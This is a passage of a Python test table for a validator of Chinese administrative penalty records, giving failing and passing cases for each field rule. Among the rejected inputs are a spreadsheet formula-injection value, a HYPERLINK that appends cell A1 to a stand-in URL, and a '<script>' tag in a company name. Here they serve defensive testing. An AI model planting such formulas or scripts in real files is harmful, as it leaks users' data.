"""Every rule of both catalogues with failing and passing examples (table-driven).

A case is (dataset, rule id, field overrides on the clean record, whether the rule must fail).
``both`` runs a COM- case on both datasets, with ``P_`` standing for the dataset prefix.
``test_every_rule_has_cases`` keeps the table complete: a new rule without a failing and a passing
example fails the suite.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

import pytest
from exp_rows import AUTH_USCC, ID_NUMBER, IND_USCC, ORG_USCC, check

from expectations import RuleOverride, RuleSettings, catalogue

PLACEHOLDER = "00000000000000000X"
ORG: dict[str, Any] = {
    "P_XDR_LB": "法人及非法人组织",
    "P_XDR_MC": "福州某某科技有限公司",
    "P_XDR_SHXYM": ORG_USCC,
    "P_XDR_ZZJG": "M000100Y4",
    "P_FRDB": "张三",
    "P_XDR_ZJLX": None,
    "P_XDR_ZJHM": None,
}
IND: dict[str, Any] = {
    "P_XDR_LB": "个体工商户",
    "P_XDR_MC": "某某便利店",
    "P_XDR_SHXYM": IND_USCC,
    "P_XDR_ZZJG": None,
    "P_FRDB": "李四",
    "P_FR_ZJLX": None,
    "P_FR_ZJHM": None,
    "P_XDR_ZJLX": None,
    "P_XDR_ZJHM": None,
}
NP: dict[str, Any] = {
    "P_XDR_LB": "自然人",
    "P_XDR_MC": "王五",
    "P_XDR_SHXYM": None,
    "P_XDR_ZZJG": None,
    "P_FRDB": None,
    "P_FR_ZJLX": None,
    "P_FR_ZJHM": None,
    "P_XDR_ZJLX": "身份证",
    "P_XDR_ZJHM": ID_NUMBER,
}


def o(**kw: Any) -> dict[str, Any]:
    return {
        "P_XDR_LB": "法人及非法人组织",
        **ORG,
        **{"P_" + k if not k.startswith(("CF_", "XK_", "BZ")) else k: v for k, v in kw.items()},
    }


def i(**kw: Any) -> dict[str, Any]:
    return {**IND, **{"P_" + k if not k.startswith(("CF_", "XK_", "BZ")) else k: v for k, v in kw.items()}}


def n(**kw: Any) -> dict[str, Any]:
    return {**NP, **{"P_" + k if not k.startswith(("CF_", "XK_", "BZ")) else k: v for k, v in kw.items()}}


F, P = True, False  # the rule must fail / must pass
HYPERLINK = '=HYPERLINK("http://x"&A1,"点此查看")'
Case = tuple[str, str, dict[str, Any], bool]

CASES: list[Case] = [
    # -- COM requirements (§3.1) --
    ("both", "COM-REQ-001", o(XDR_MC=None), F),
    ("both", "COM-REQ-001", o(), P),
    ("both", "COM-REQ-002", o(XDR_LB=None), F),
    ("both", "COM-REQ-002", n(), P),
    ("both", "COM-REQ-003", o(XDR_SHXYM=None), F),
    ("both", "COM-REQ-003", i(XDR_SHXYM=None), F),
    ("both", "COM-REQ-003", n(), P),
    ("both", "COM-REQ-004", i(XDR_SHXYM=PLACEHOLDER, XDR_GSZC=None), F),
    ("both", "COM-REQ-004", i(XDR_SHXYM=PLACEHOLDER, XDR_GSZC="350100600012345"), P),
    ("both", "COM-REQ-005", o(FRDB=None), F),
    ("both", "COM-REQ-005", i(FRDB=None), F),
    ("both", "COM-REQ-005", n(), P),
    ("both", "COM-REQ-006", o(FR_ZJLX=None, FR_ZJHM=ID_NUMBER), F),
    ("both", "COM-REQ-006", o(FR_ZJLX=None, FR_ZJHM=None), P),
    ("both", "COM-REQ-007", n(XDR_ZJLX=None), F),
    ("both", "COM-REQ-007", o(), P),
    ("both", "COM-REQ-008", n(XDR_ZJHM=None), F),
    ("both", "COM-REQ-008", o(), P),
    ("both", "COM-EMPTY-001", n(XDR_SHXYM=ORG_USCC), F),
    ("both", "COM-EMPTY-001", o(), P),
    ("both", "COM-EMPTY-002", n(XDR_GSZC="350100600012345"), F),
    ("both", "COM-EMPTY-002", i(XDR_GSZC="350100600012345"), P),
    ("both", "COM-EMPTY-003", n(XDR_ZZJG="M000100Y4"), F),
    ("both", "COM-EMPTY-003", o(), P),
    ("both", "COM-EMPTY-004", n(XDR_SWDJ="350100123456789"), F),
    ("both", "COM-EMPTY-004", o(XDR_SWDJ="350100123456789"), P),
    ("both", "COM-EMPTY-005", n(XDR_SYDW="123456789012"), F),
    ("both", "COM-EMPTY-005", o(XDR_SYDW="123456789012"), P),
    ("both", "COM-EMPTY-006", n(XDR_SHZZ="51350000MJ1234"), F),
    ("both", "COM-EMPTY-006", o(XDR_SHZZ="51350000MJ1234"), P),
    ("both", "COM-EMPTY-007", n(FRDB="张三"), F),
    ("both", "COM-EMPTY-007", o(), P),
    ("both", "COM-EMPTY-008", n(FR_ZJLX="身份证"), F),
    ("both", "COM-EMPTY-008", o(FR_ZJLX="身份证"), P),
    ("both", "COM-EMPTY-009", n(FR_ZJHM=ID_NUMBER), F),
    ("both", "COM-EMPTY-009", o(FR_ZJLX="身份证", FR_ZJHM=ID_NUMBER), P),
    ("both", "COM-EMPTY-010", o(XDR_ZJLX="身份证"), F),
    ("both", "COM-EMPTY-010", n(), P),
    ("both", "COM-EMPTY-011", i(XDR_ZJHM=ID_NUMBER), F),
    ("both", "COM-EMPTY-011", n(), P),
    # -- COM lengths, in characters --
    ("both", "COM-LEN-001", o(XDR_MC="某" * 201), F),
    ("both", "COM-LEN-001", o(XDR_MC="某" * 200), P),
    ("both", "COM-LEN-002", o(XDR_LB="法" * 17), F),
    ("both", "COM-LEN-002", o(), P),
    ("both", "COM-LEN-003", o(XDR_SHXYM=ORG_USCC + "1"), F),
    ("both", "COM-LEN-003", o(), P),
    ("both", "COM-LEN-004", o(XDR_GSZC="1" * 51), F),
    ("both", "COM-LEN-004", o(XDR_GSZC="1" * 50), P),
    ("both", "COM-LEN-005", o(XDR_ZZJG="M000100-Y4"), F),
    ("both", "COM-LEN-005", o(), P),
    ("both", "COM-LEN-006", o(XDR_SWDJ="1" * 16), F),
    ("both", "COM-LEN-006", o(XDR_SWDJ="1" * 15), P),
    ("both", "COM-LEN-007", o(XDR_SYDW="1" * 13), F),
    ("both", "COM-LEN-007", o(XDR_SYDW="1" * 12), P),
    ("both", "COM-LEN-008", o(XDR_SHZZ="1" * 51), F),
    ("both", "COM-LEN-008", o(XDR_SHZZ="1" * 50), P),
    ("both", "COM-LEN-009", o(FRDB="张" * 51), F),
    ("both", "COM-LEN-009", o(FRDB="张" * 50), P),
    ("both", "COM-LEN-010", o(FR_ZJLX="其他-" + "证" * 62), F),
    ("both", "COM-LEN-010", o(FR_ZJLX="其他-" + "证" * 61), P),
    ("both", "COM-LEN-011", o(FR_ZJLX="其他-军官证", FR_ZJHM="1" * 65), F),
    ("both", "COM-LEN-011", o(FR_ZJHM=ID_NUMBER), P),
    ("both", "COM-LEN-012", n(XDR_ZJLX="其他-" + "证" * 62), F),
    ("both", "COM-LEN-012", n(), P),
    ("both", "COM-LEN-013", n(XDR_ZJLX="其他-军官证", XDR_ZJHM="1" * 65), F),
    ("both", "COM-LEN-013", n(), P),
    # -- COM enumerations --
    ("both", "COM-ENUM-001", o(XDR_LB="01"), F),
    ("both", "COM-ENUM-001", o(XDR_LB="法人"), F),
    ("both", "COM-ENUM-001", o(), P),
    ("both", "COM-ENUM-001", i(), P),
    ("both", "COM-ENUM-001", n(), P),
    ("both", "COM-ENUM-002", o(FR_ZJLX="居民身份证"), F),
    ("both", "COM-ENUM-002", o(FR_ZJLX="其他"), F),
    ("both", "COM-ENUM-002", o(FR_ZJLX="其他-"), F),
    ("both", "COM-ENUM-002", o(FR_ZJLX="其他-军官证", FR_ZJHM="军123"), P),
    ("both", "COM-ENUM-002", o(FR_ZJLX="护照号", FR_ZJHM="E12345678"), P),
    ("both", "COM-ENUM-003", n(XDR_ZJLX="01"), F),
    ("both", "COM-ENUM-003", n(XDR_ZJLX="外国人永久居留身份证", XDR_ZJHM="USA350100800101"), P),
    # -- COM USCC of the party (§3.2, §4.1) --
    ("both", "COM-USCC-001", o(XDR_SHXYM="91350100M000100Y4O"), F),  # O is not in the alphabet
    ("both", "COM-USCC-001", o(XDR_SHXYM="91350100m000100y43"), F),  # lower case
    ("both", "COM-USCC-001", o(XDR_SHXYM="9135010AM000100Y43"), F),  # position 8 must be a digit
    ("both", "COM-USCC-001", o(XDR_SHXYM="91350100M000100Y4"), F),  # 17 characters
    ("both", "COM-USCC-001", o(XDR_SHXYM="９1350100M000100Y43"), F),  # full-width digit that escaped NFKC
    ("both", "COM-USCC-001", o(), P),
    ("both", "COM-USCC-001", i(XDR_SHXYM=PLACEHOLDER, XDR_GSZC="350100600012345"), P),
    ("both", "COM-USCC-002", o(XDR_SHXYM="91350100M000100Y44"), F),
    ("both", "COM-USCC-002", o(XDR_SHXYM="99999999999999999X"), P),  # owned by COM-PH-003
    ("both", "COM-USCC-002", o(XDR_SHXYM="91230500MA1B3N1N2M", XDR_ZZJG="MA1B3N1N2"), P),
    ("both", "COM-USCC-002", o(XDR_SHXYM="11230500001755309F", XDR_ZZJG="001755309"), P),
    ("both", "COM-USCC-002", i(XDR_SHXYM=PLACEHOLDER, XDR_GSZC="350100600012345"), P),
    ("both", "COM-USCC-003", o(XDR_SHXYM="B1350100M000100Y41"), F),
    ("both", "COM-USCC-003", o(XDR_SHXYM="95350100M000100Y4N"), F),
    ("both", "COM-USCC-003", o(XDR_SHXYM="N2350100M000100Y4J"), P),
    ("both", "COM-USCC-003", o(), P),
    ("both", "COM-USCC-004", o(XDR_SHXYM="91350100M000100Y56", XDR_ZZJG=None), F),
    ("both", "COM-USCC-004", o(), P),
    ("both", "COM-USCC-005", i(XDR_SHXYM=ORG_USCC), F),
    ("both", "COM-USCC-005", i(), P),
    ("both", "COM-USCC-005", i(XDR_SHXYM=PLACEHOLDER, XDR_GSZC="350100600012345"), P),
    ("both", "COM-USCC-006", o(XDR_SHXYM=IND_USCC), F),
    ("both", "COM-USCC-006", o(), P),
    ("both", "COM-USCC-006", i(), P),
    # -- COM placeholders and junk codes (§3.3) --
    ("both", "COM-PH-001", o(XDR_SHXYM=PLACEHOLDER, XDR_ZZJG=None), F),
    ("both", "COM-PH-001", o(XDR_LB=None, XDR_SHXYM=PLACEHOLDER), F),
    ("both", "COM-PH-001", i(XDR_SHXYM=PLACEHOLDER, XDR_GSZC="350100600012345"), P),
    ("both", "COM-PH-002", o(XDR_SHXYM="0" * 18, XDR_ZZJG=None), F),
    ("both", "COM-PH-002", i(XDR_SHXYM="0" * 18), F),
    ("both", "COM-PH-002", o(), P),
    ("both", "COM-PH-003", o(XDR_SHXYM="9" * 18), F),
    ("both", "COM-PH-003", o(XDR_SHXYM="9" * 17 + "X"), F),
    ("both", "COM-PH-003", o(), P),
    ("both", "COM-PH-004", o(XDR_SHXYM=None, XDR_ZZJG="0" * 9), F),
    ("both", "COM-PH-004", o(), P),
    ("both", "COM-ORG-001", o(XDR_ZZJG="D2143569-X"), F),
    ("both", "COM-ORG-001", o(XDR_ZZJG="d2143569x"), F),
    ("both", "COM-ORG-001", o(XDR_ZZJG="D2143569A"), F),
    ("both", "COM-ORG-001", o(XDR_SHXYM=None, XDR_ZZJG="D2143569X"), P),
    ("both", "COM-ORG-002", o(XDR_SHXYM=None, XDR_ZZJG="D21435691"), F),
    ("both", "COM-ORG-002", o(XDR_SHXYM=None, XDR_ZZJG="MA1B3N1N2"), P),
    ("both", "COM-ORG-002", o(XDR_SHXYM=None, XDR_ZZJG="0" * 9), P),  # owned by COM-PH-004
    ("both", "COM-ORG-003", o(XDR_ZZJG="D2143569X"), F),
    ("both", "COM-ORG-003", o(), P),
    ("both", "COM-ORG-003", o(XDR_SHXYM=None, XDR_ZZJG="D2143569X"), P),
    ("both", "COM-CODE-001", i(XDR_GSZC="3501-0060"), F),
    ("both", "COM-CODE-001", i(XDR_GSZC="350100600012345"), P),
    ("both", "COM-CODE-002", o(XDR_SWDJ="35010012345678a"), F),
    ("both", "COM-CODE-002", o(XDR_SWDJ="350100123456789"), P),
    # -- COM ID numbers and documents (§3.2, §4.2) --
    ("both", "COM-ID-001", o(FR_ZJLX="身份证", FR_ZJHM="11010519491331002X"), F),  # month 13
    ("both", "COM-ID-001", o(FR_ZJLX="身份证", FR_ZJHM="110105491231002"), F),  # 15-digit legacy number
    ("both", "COM-ID-001", o(FR_ZJLX="身份证", FR_ZJHM="110105203001010011"), F),  # born in the future
    ("both", "COM-ID-001", o(FR_ZJLX="身份证", FR_ZJHM="110105190002290011"), F),  # 1900 was not a leap year
    ("both", "COM-ID-001", o(FR_ZJLX="身份证", FR_ZJHM="010105194912310021"), F),  # leading zero
    ("both", "COM-ID-001", o(FR_ZJLX="身份证", FR_ZJHM=ID_NUMBER), P),
    ("both", "COM-ID-001", o(FR_ZJLX="护照号", FR_ZJHM="E12345678"), P),
    ("both", "COM-ID-002", o(FR_ZJLX="身份证", FR_ZJHM="110105194912310029"), F),
    ("both", "COM-ID-002", o(FR_ZJLX="身份证", FR_ZJHM="440524188001010014"), P),
    ("both", "COM-ID-003", n(XDR_ZJHM="44052418800101001"), F),
    ("both", "COM-ID-003", n(), P),
    ("both", "COM-ID-004", n(XDR_ZJHM="440524188001010015"), F),
    ("both", "COM-ID-004", n(XDR_ZJHM="440524188001010014"), P),
    # 其他-… must not bypass the 身份证 checks (issue 17 item 2)
    ("both", "COM-ID-005", o(FR_ZJLX="其他-旧身份证", FR_ZJHM="110105491231002"), F),  # 15-digit legacy number
    ("both", "COM-ID-005", o(FR_ZJLX="其他-军官证", FR_ZJHM="1101051949123100"), P),  # 16 digits: not an ID's shape
    ("both", "COM-ID-006", n(XDR_ZJLX="其他-旧身份证", XDR_ZJHM="110105491231002"), F),
    ("both", "COM-ID-006", n(XDR_ZJLX="其他-身份证", XDR_ZJHM="110105194912310029"), F),  # wrong check digit
    ("both", "COM-ID-006", n(XDR_ZJLX="其他-旧身份证", XDR_ZJHM=ID_NUMBER), P),
    ("both", "COM-DOC-001", o(FR_ZJLX="护照号", FR_ZJHM="E12"), F),
    ("both", "COM-DOC-001", o(FR_ZJLX="港澳居民来往内地通行证", FR_ZJHM="H-1234567"), F),
    ("both", "COM-DOC-001", o(FR_ZJLX="台湾居民来往大陆通行证", FR_ZJHM="12345678"), P),
    ("both", "COM-DOC-002", n(XDR_ZJLX="护照号", XDR_ZJHM="E1"), F),
    ("both", "COM-DOC-002", n(XDR_ZJLX="护照号", XDR_ZJHM="E12345678"), P),
    # -- COM junk and characters (§3.3, §3.4) --
    ("both", "COM-JUNK-001", o(XDR_MC="无"), F),
    ("both", "COM-JUNK-001", o(XDR_MC="123456"), F),
    ("both", "COM-JUNK-001", o(XDR_MC="——"), F),
    ("both", "COM-JUNK-001", o(XDR_MC="（）"), F),
    ("both", "COM-JUNK-001", o(XDR_MC="NULL"), F),
    ("both", "COM-JUNK-001", o(XDR_MC="3M中国有限公司"), P),
    ("both", "COM-JUNK-001", n(), P),
    ("both", "COM-JUNK-002", o(FRDB="不详"), F),
    ("both", "COM-JUNK-002", o(FRDB="*"), F),
    ("both", "COM-JUNK-002", o(FRDB="张三"), P),
    ("both", "COM-CHR-001", o(XDR_MC="某某\n公司"), F),
    ("both", "COM-CHR-001", o(XDR_MC="某某\t公司"), F),
    ("both", "COM-CHR-001", o(XDR_MC="某某\x00公司"), F),
    ("both", "COM-CHR-001", o(XDR_MC="某某\ufffd公司"), F),
    ("both", "COM-CHR-001", o(XDR_MC="某某\x85公司"), F),
    ("both", "COM-CHR-001", o(XDR_MC="某某\ud800公司"), F),
    ("both", "COM-CHR-001", o(XDR_MC="某某\u3000公司"), P),
    ("both", "COM-CHR-001", o(XDR_MC="Acme Co. 某某公司"), P),
    ("both", "COM-CHR-002", o(FRDB="张\x07三"), F),
    ("both", "COM-CHR-002", o(FRDB="阿卜杜·热合曼"), P),
    ("both", "COM-CHR-003", o(XDR_SYDW="12\n3"), F),
    ("both", "COM-CHR-003", o(XDR_SYDW="事证第123号"), P),
    ("both", "COM-CHR-004", o(XDR_SHZZ="a\x01"), F),
    ("both", "COM-CHR-004", o(XDR_SHZZ="51350000MJ1234"), P),
    ("both", "COM-CHR-005", o(FR_ZJLX="其他-军官证", FR_ZJHM="军\x0b123"), F),
    ("both", "COM-CHR-005", o(FR_ZJLX="其他-军官证", FR_ZJHM="军123"), P),
    ("both", "COM-CHR-006", n(XDR_ZJLX="其他-军官证", XDR_ZJHM="x\x0c"), F),
    ("both", "COM-CHR-006", n(), P),
    ("both", "COM-SPC-001", o(XDR_MC="某<script>公司"), F),
    ("both", "COM-SPC-001", o(XDR_MC="某某公司😀"), F),
    ("both", "COM-SPC-001", o(XDR_MC="某某公司;"), F),
    ("both", "COM-SPC-001", o(XDR_MC="某某（福州）有限公司"), P),
    ("both", "COM-SPC-002", o(FRDB="张'三"), F),
    ("both", "COM-SPC-002", o(FRDB="张三"), P),
    ("both", "COM-FW-001", o(XDR_MC="ＡＢＣ某某公司"), F),
    ("both", "COM-FW-001", o(XDR_MC="ABC某某公司，（福州）"), P),
    ("both", "COM-FW-002", o(XDR_SYDW="１２３４５６７８９０１２"), F),
    ("both", "COM-FW-002", o(XDR_SYDW="123456789012"), P),
    ("both", "COM-FW-003", o(XDR_SHZZ="晋民证字第００１２号"), F),
    ("both", "COM-FW-003", o(XDR_SHZZ="晋民证字第0012号"), P),
    ("both", "COM-FW-004", o(FR_ZJLX="护照号", FR_ZJHM="\u041512345678"), F),  # Cyrillic Е
    ("both", "COM-FW-004", o(FR_ZJLX="护照号", FR_ZJHM="E12345678"), P),
    ("both", "COM-FW-005", n(XDR_ZJLX="其他-军官证", XDR_ZJHM="军字第１２３号"), F),
    ("both", "COM-FW-005", n(XDR_ZJLX="其他-军官证", XDR_ZJHM="军字第123号"), P),
    # -- spreadsheet formulas (issue 12 item 4): a leading = + - @ or its full-width form --
    ("both", "COM-FML-001", o(XDR_MC=HYPERLINK), F),
    ("both", "COM-FML-001", o(XDR_MC="＠某某公司"), F),
    ("both", "COM-FML-001", o(XDR_MC="某某公司-福州分公司"), P),
    ("both", "COM-FML-002", o(FRDB="+张三"), F),
    ("both", "COM-FML-002", o(FRDB="张三"), P),
    ("both", "COM-FML-003", o(XDR_SYDW="-12345678901"), F),
    ("both", "COM-FML-003", o(XDR_SYDW="123456789012"), P),
    ("both", "COM-FML-004", o(XDR_SHZZ="@51350000MJ1"), F),
    ("both", "COM-FML-004", o(XDR_SHZZ="51350000MJ1234"), P),
    # -- CF requirements (§2) --
    ("cf", "CF-REQ-001", {"CF_WSH": None}, F),
    ("cf", "CF-REQ-001", {}, P),
    ("cf", "CF-REQ-002", {"CF_WFXW": None}, F),
    ("cf", "CF-REQ-002", {}, P),
    ("cf", "CF-REQ-003", {"CF_SY": None}, F),
    ("cf", "CF-REQ-003", {}, P),
    ("cf", "CF-REQ-004", {"CF_YJ": None}, F),
    ("cf", "CF-REQ-004", {}, P),
    ("cf", "CF-REQ-005", {"CF_CFLB": None}, F),
    ("cf", "CF-REQ-005", {}, P),
    ("cf", "CF-REQ-006", {"CF_NR": None}, F),
    ("cf", "CF-REQ-006", {}, P),
    ("cf", "CF-REQ-007", {"CF_NR_FK": None}, F),
    ("cf", "CF-REQ-007", {"CF_CFLB": "罚款、没收违法所得", "CF_NR_FK": None}, F),
    ("cf", "CF-REQ-007", {"CF_CFLB": "警告", "CF_NR_FK": None}, P),
    ("cf", "CF-REQ-008", {"CF_NR_WFFF": None}, F),
    ("cf", "CF-REQ-008", {"CF_CFLB": "没收违法所得、没收非法财物", "CF_NR_WFFF": None}, F),
    ("cf", "CF-REQ-008", {"CF_CFLB": "罚款", "CF_NR_WFFF": None}, P),
    ("cf", "CF-REQ-009", {"CF_CFLB": "吊销许可证件"}, F),
    ("cf", "CF-REQ-009", {"CF_CFLB": "暂扣或者吊销许可证、暂扣或者吊销执照"}, F),
    ("cf", "CF-REQ-009", {"CF_CFLB": "罚款;暂扣许可证件"}, F),
    ("cf", "CF-REQ-009", {"CF_CFLB": "吊销许可证件", "CF_NR_ZKDX": "食品经营许可证JY13501000012345"}, P),
    ("cf", "CF-REQ-010", {"CF_CFLB": "降低资质等级"}, F),
    ("cf", "CF-REQ-010", {"CF_CFLB": "降低资质等级", "CF_NR_ZKDX": "建筑业企业资质证书D235012345"}, P),
    ("cf", "CF-REQ-011", {"CF_JDRQ": None}, F),
    ("cf", "CF-REQ-011", {}, P),
    ("cf", "CF-REQ-012", {"CF_YXQ": None}, F),
    ("cf", "CF-REQ-012", {}, P),
    ("cf", "CF-REQ-013", {"CF_GSJZQ": None}, F),
    ("cf", "CF-REQ-013", {}, P),
    ("cf", "CF-REQ-013", {"CF_GSJZQ": None, "CF_JDRQ": "2024-02-30"}, P),  # unreadable date: CF-DATE-001 only
    ("cf", "CF-REQ-014", {"CF_CFJG": None}, F),
    ("cf", "CF-REQ-014", {}, P),
    ("cf", "CF-REQ-015", {"CF_CFJGDM": None}, F),
    ("cf", "CF-REQ-015", {}, P),
    ("cf", "CF-REQ-016", {"CF_SJLY": None}, F),
    ("cf", "CF-REQ-016", {}, P),
    ("cf", "CF-REQ-017", {"CF_SJLYDM": None}, F),
    ("cf", "CF-REQ-017", {}, P),
    # -- CF lengths --
    ("cf", "CF-LEN-001", {"CF_WSH": "号" * 129}, F),
    ("cf", "CF-LEN-001", {"CF_WSH": "号" * 128}, P),
    ("cf", "CF-LEN-002", {"CF_WFXW": "违" * 2001}, F),
    ("cf", "CF-LEN-002", {"CF_WFXW": "违" * 2000}, P),
    ("cf", "CF-LEN-003", {"CF_SY": "事" * 2001}, F),
    ("cf", "CF-LEN-003", {"CF_SY": "事" * 2000}, P),
    ("cf", "CF-LEN-004", {"CF_YJ": "依" * 2049}, F),
    ("cf", "CF-LEN-004", {"CF_YJ": "依" * 2048}, P),
    ("cf", "CF-LEN-005", {"CF_CFLB": "罚款;其他-" + "类" * 251}, F),
    ("cf", "CF-LEN-005", {"CF_CFLB": "罚款;其他-" + "类" * 250}, P),
    ("cf", "CF-LEN-005", {}, P),
    ("cf", "CF-LEN-006", {"CF_NR": "内" * 4001}, F),
    ("cf", "CF-LEN-006", {"CF_NR": "内" * 4000}, P),
    ("cf", "CF-LEN-007", {"CF_NR_ZKDX": "证" * 201}, F),
    ("cf", "CF-LEN-007", {"CF_NR_ZKDX": "证" * 200}, P),
    ("cf", "CF-LEN-008", {"CF_CFJG": "局" * 201}, F),
    ("cf", "CF-LEN-008", {"CF_CFJG": "局" * 200}, P),
    ("cf", "CF-LEN-009", {"CF_CFJGDM": AUTH_USCC + "0"}, F),
    ("cf", "CF-LEN-009", {}, P),
    ("cf", "CF-LEN-010", {"CF_SJLY": "局" * 201}, F),
    ("cf", "CF-LEN-010", {"CF_SJLY": "局" * 200}, P),
    ("cf", "CF-LEN-011", {"CF_SJLYDM": AUTH_USCC + "0"}, F),
    ("cf", "CF-LEN-011", {}, P),
    ("cf", "CF-LEN-012", {"BZ": "备" * 513}, F),
    ("cf", "CF-LEN-012", {"BZ": "备" * 512}, P),
    # -- CF 处罚类别 --
    ("cf", "CF-CAT-001", {"CF_CFLB": "罚金"}, F),
    ("cf", "CF-CAT-001", {"CF_CFLB": "罚款、吊销执照"}, F),
    ("cf", "CF-CAT-001", {"CF_CFLB": "1"}, F),
    ("cf", "CF-CAT-001", {"CF_CFLB": "没收违法所得、没收非法财物"}, P),
    ("cf", "CF-CAT-001", {"CF_CFLB": "暂扣或者吊销许可证、暂扣或者吊销执照", "CF_NR_ZKDX": "营业执照"}, P),
    ("cf", "CF-CAT-001", {"CF_CFLB": "警告；罚款"}, P),
    ("cf", "CF-CAT-001", {"CF_CFLB": "罚款、没收违法所得"}, P),
    ("cf", "CF-CAT-001", {"CF_CFLB": "其他-取消投标资格、限制参加政府采购"}, P),
    ("cf", "CF-CAT-001", {"CF_CFLB": "罚款;其他-责令改正、公开道歉;"}, P),
    (
        "cf",
        "CF-CAT-001",
        {
            "CF_CFLB": "警告、通报批评、罚款、没收违法所得、没收非法财物、限制开展生产经营活动、责令停产停业、责令关闭、限制从业、行政拘留"
        },
        P,
    ),
    ("cf", "CF-CAT-002", {"CF_CFLB": "其他"}, F),
    ("cf", "CF-CAT-002", {"CF_CFLB": "罚款;其他"}, F),
    ("cf", "CF-CAT-002", {"CF_CFLB": "罚款、其他-"}, F),
    ("cf", "CF-CAT-002", {"CF_CFLB": "其他-通报"}, P),
    # -- CF amounts (§3.6) --
    ("cf", "CF-AMT-001", {"CF_NR_FK": "2000元"}, F),
    ("cf", "CF-AMT-001", {"CF_NR_FK": "1,000"}, F),
    ("cf", "CF-AMT-001", {"CF_NR_FK": "0.1234567"}, F),
    ("cf", "CF-AMT-001", {"CF_NR_FK": "-1"}, F),
    ("cf", "CF-AMT-001", {"CF_NR_FK": "1e3"}, F),
    ("cf", "CF-AMT-001", {"CF_NR_FK": "٣"}, F),  # Arabic-Indic digit
    ("cf", "CF-AMT-001", {"CF_NR_FK": "0.2"}, P),
    ("cf", "CF-AMT-001", {"CF_NR_FK": "12", "CF_NR": "罚款12万元"}, P),
    ("cf", "CF-AMT-002", {"CF_NR_WFFF": "5万元"}, F),
    ("cf", "CF-AMT-002", {"CF_NR_WFFF": "0.000001"}, P),
    ("cf", "CF-AMT-003", {"CF_NR_FK": "0"}, F),
    ("cf", "CF-AMT-003", {"CF_NR_FK": "0.000"}, F),
    ("cf", "CF-AMT-003", {}, P),
    ("cf", "CF-AMT-004", {"CF_NR_WFFF": "0.000"}, F),
    ("cf", "CF-AMT-004", {}, P),
    ("cf", "CF-AMT-005", {"CF_CFLB": "警告", "CF_NR_FK": "0.2", "CF_NR_WFFF": None}, F),
    ("cf", "CF-AMT-005", {"CF_CFLB": "警告", "CF_NR_FK": "0", "CF_NR_WFFF": None}, P),
    ("cf", "CF-AMT-006", {"CF_CFLB": "罚款"}, F),
    ("cf", "CF-AMT-006", {"CF_CFLB": "罚款", "CF_NR_WFFF": None}, P),
    ("cf", "CF-AMT-007", {"CF_NR_FK": "100000"}, F),
    ("cf", "CF-AMT-007", {"CF_NR_FK": "99999.999999", "CF_NR": "罚款"}, P),
    ("cf", "CF-AMT-008", {"CF_NR_WFFF": "200000"}, F),
    ("cf", "CF-AMT-008", {}, P),
    ("cf", "CF-AMT-009", {"CF_NR_FK": "2000"}, F),
    ("cf", "CF-AMT-009", {"CF_NR": "罚款人民币0.3万元", "CF_NR_FK": "0.2"}, F),
    ("cf", "CF-AMT-009", {"CF_NR": "处罚如下：罚款2000元"}, P),
    ("cf", "CF-AMT-009", {"CF_NR": "罚款0.2万元"}, P),
    ("cf", "CF-AMT-009", {"CF_NR": "决定罚款，罚款2000元"}, P),
    ("cf", "CF-AMT-009", {"CF_NR": "罚款贰仟元"}, P),
    # -- CF dates (§3.5) --
    ("cf", "CF-DATE-001", {"CF_JDRQ": "2023/02/30"}, F),
    ("cf", "CF-DATE-001", {"CF_JDRQ": "abc"}, F),
    ("cf", "CF-DATE-001", {"CF_JDRQ": "0000-00-00"}, F),
    ("cf", "CF-DATE-001", {"CF_JDRQ": "2024-13-01"}, F),
    ("cf", "CF-DATE-001", {"CF_JDRQ": "2024-3-5"}, F),
    ("cf", "CF-DATE-001", {"CF_JDRQ": "2024-02-29"}, P),
    ("cf", "CF-DATE-002", {"CF_YXQ": "2025-02-29"}, F),
    ("cf", "CF-DATE-002", {"CF_YXQ": "2099-12-31"}, P),
    ("cf", "CF-DATE-003", {"CF_GSJZQ": "20270315x"}, F),
    ("cf", "CF-DATE-003", {}, P),
    ("cf", "CF-DATE-004", {"CF_YXQ": "2100-01-01"}, F),
    ("cf", "CF-DATE-004", {"CF_YXQ": "9999-12-31"}, F),
    ("cf", "CF-DATE-004", {"CF_YXQ": "2099-12-31"}, P),
    ("cf", "CF-DATE-005", {"CF_GSJZQ": "2100-01-01"}, F),
    ("cf", "CF-DATE-005", {}, P),
    ("cf", "CF-DATE-006", {"CF_JDRQ": "2026-07-01"}, F),
    ("cf", "CF-DATE-006", {"CF_JDRQ": "2026-06-30"}, P),
    ("cf", "CF-DATE-007", {"CF_JDRQ": "1999-12-31"}, F),
    ("cf", "CF-DATE-007", {"CF_JDRQ": "2000-01-01"}, P),
    ("cf", "CF-DATE-008", {"CF_YXQ": "2024-03-14"}, F),
    ("cf", "CF-DATE-008", {"CF_YXQ": "2024-03-15"}, P),
    ("cf", "CF-DATE-009", {"CF_GSJZQ": "2024-03-15"}, F),
    ("cf", "CF-DATE-009", {"CF_GSJZQ": "2024-03-16"}, P),
    ("cf", "CF-DATE-010", {"CF_GSJZQ": "2027-03-16"}, F),
    ("cf", "CF-DATE-010", {"CF_GSJZQ": "2027-03-15"}, P),
    ("cf", "CF-DATE-010", {"CF_GSJZQ": "2099-12-31"}, P),
    ("cf", "CF-DATE-010", {"CF_JDRQ": "2024-02-29", "CF_YXQ": "2024-03-01", "CF_GSJZQ": "2027-03-01"}, F),
    ("cf", "CF-DATE-010", {"CF_JDRQ": "2024-02-29", "CF_YXQ": "2024-03-01", "CF_GSJZQ": "2027-02-28"}, P),
    ("cf", "CF-DATE-011", {"CF_GSJZQ": "2099-12-31"}, F),
    ("cf", "CF-DATE-011", {}, P),
    # -- CF authority codes --
    ("cf", "CF-USCC-001", {"CF_CFJGDM": "1123050000175530"}, F),
    ("cf", "CF-USCC-001", {}, P),
    ("cf", "CF-USCC-002", {"CF_CFJGDM": "11230500001755309E"}, F),
    ("cf", "CF-USCC-002", {"CF_CFJGDM": PLACEHOLDER}, P),
    ("cf", "CF-USCC-003", {"CF_CFJGDM": ORG_USCC}, F),
    ("cf", "CF-USCC-003", {}, P),
    ("cf", "CF-USCC-004", {"CF_SJLYDM": "1123050000175530"}, F),
    ("cf", "CF-USCC-004", {}, P),
    ("cf", "CF-USCC-005", {"CF_SJLYDM": "11230500001755309E"}, F),
    ("cf", "CF-USCC-005", {"CF_SJLYDM": ORG_USCC}, P),
    ("cf", "CF-PH-001", {"CF_CFJGDM": PLACEHOLDER}, F),
    ("cf", "CF-PH-001", {"CF_CFJGDM": "0" * 18}, F),
